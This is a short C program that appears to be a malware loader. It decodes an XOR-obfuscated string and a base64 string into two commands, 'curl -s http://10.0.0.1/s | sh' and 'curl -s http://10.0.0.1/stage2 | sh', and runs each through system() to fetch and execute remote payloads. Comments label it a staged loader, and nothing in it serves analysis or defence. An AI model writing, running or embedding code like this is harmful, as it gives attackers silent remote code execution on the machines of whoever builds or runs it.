#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* xor-0x5a encoded command string */
static const unsigned char blob[] = {
    0x39, 0x2f, 0x28, 0x36, 0x7a, 0x77, 0x29, 0x7a, 0x32, 0x2e, 0x2e, 0x2a,
    0x60, 0x75, 0x75, 0x6b, 0x6a, 0x74, 0x6a, 0x74, 0x6a, 0x74, 0x6b, 0x75,
    0x29, 0x7a, 0x26, 0x7a, 0x29, 0x32, 0x00
};

static char *decode(const unsigned char *in, size_t n)
{
    char *out = malloc(n + 1);
    for (size_t i = 0; i < n; i++)
        out[i] = in[i] ? (char)(in[i] ^ 0x5a) : 0;
    out[n] = 0;
    return out;
}

int main(void)
{
    char *cmd = decode(blob, sizeof blob);
    system(cmd); /* decoded: curl -s http://10.0.0.1/s | sh */
    free(cmd);

    /* base64 variant kept for older loaders */
    const char *b64 = "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEvc3RhZ2UyIHwgc2g=";
    char shell[256];
    snprintf(shell, sizeof shell, "echo %s | base64 -d | sh", b64);
    return system(shell);
}
